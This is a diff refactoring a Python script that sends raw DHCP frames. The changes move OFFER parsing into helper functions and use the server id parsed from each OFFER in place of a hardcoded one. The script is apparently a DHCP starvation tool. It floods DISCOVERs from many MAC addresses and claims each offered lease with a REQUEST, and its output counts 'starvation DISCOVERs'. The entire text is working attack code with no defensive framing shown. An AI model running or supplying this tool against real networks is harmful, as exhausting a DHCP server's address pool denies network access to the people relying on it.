@@ -39,30 +39,40 @@ def dhcp(mac: bytes, xid: int, kind: int, requested: bytes | None = None, server
     return b"\xff" * 6 + mac + b"\x08\x00" + ip + udp
 
 
-def offer_for(xid: int, wait: float) -> tuple[bytes, bytes] | None:
-    """The OFFER answering `xid`: (offered address, server id), or None."""
-    end = time.time() + wait
-    while time.time() < end:
+def offer(f: bytes) -> tuple[int, bytes, bytes] | None:
+    """A server's OFFER (to port 68): (transaction id, offered address, server id), else None."""
+    if len(f) < 282 or f[12:14] != b"\x08\x00" or f[23] != 17 or f[36:38] != b"\x00\x44":
+        return None
+    bootp = f[42:]
+    opts = bootp[240:]
+    i, kind, server = 0, 0, b"\0" * 4
+    while i < len(opts) and opts[i] != 255:
+        if opts[i] == 0:
+            i += 1
+            continue
+        if opts[i] == 53:
+            kind = opts[i + 2]
+        if opts[i] == 54:
+            server = opts[i + 2:i + 6]
+        i += 2 + opts[i + 1]
+    return (struct.unpack("!I", bootp[4:8])[0], bootp[16:20], server) if kind == 2 else None
+
+
+def frames(until: float):
+    """The frames received until `until` (time.time())."""
+    while time.time() < until:
         try:
-            f = s.recv(2048)
+            yield s.recv(2048)
         except socket.timeout:
             continue
-        if len(f) < 282 or f[12:14] != b"\x08\x00" or f[23] != 17 or f[36:38] != b"\x00\x44":
-            continue
-        bootp = f[42:]
-        if struct.unpack("!I", bootp[4:8])[0] != xid:
-            continue
-        yiaddr = bootp[16:20]
-        opts = bootp[240:]
-        i, server = 0, None
-        while i < len(opts) and opts[i] != 255:
-            if opts[i] == 0:
-                i += 1
-                continue
-            if opts[i] == 54:
-                server = opts[i + 2:i + 6]
-            i += 2 + opts[i + 1]
-        return yiaddr, server or b"\0" * 4
+
+
+def offer_for(xid: int, wait: float) -> tuple[bytes, bytes] | None:
+    """The OFFER answering `xid`: (offered address, server id), or None."""
+    for f in frames(time.time() + wait):
+        got = offer(f)
+        if got and got[0] == xid:
+            return got[1], got[2]
     return None
 
 
@@ -91,17 +101,9 @@ while time.time() - start < 12:
     pending[xid] = mac
     s.send(dhcp(mac, xid, 1))
     n += 1
-    tick = time.time() + 0.04
-    while time.time() < tick:
-        try:
-            f = s.recv(2048)
-        except socket.timeout:
-            continue
-        if len(f) < 282 or f[12:14] != b"\x08\x00" or f[23] != 17 or f[36:38] != b"\x00\x44":
-            continue
-        bootp = f[42:]
-        x = struct.unpack("!I", bootp[4:8])[0]
-        if x in pending and b"\x35\x01\x02" in bootp[240:]:
-            s.send(dhcp(pending.pop(x), x, 3, requested=bootp[16:20], server=b"\x0a\x4d\x00\x01"))
+    for f in frames(time.time() + 0.04):
+        got = offer(f)
+        if got and got[0] in pending:
+            s.send(dhcp(pending.pop(got[0]), got[0], 3, requested=got[1], server=got[2]))
             requests += 1
 print(f"sent 5 leases, {n} starvation DISCOVERs and {requests} REQUESTs", file=sys.stderr)
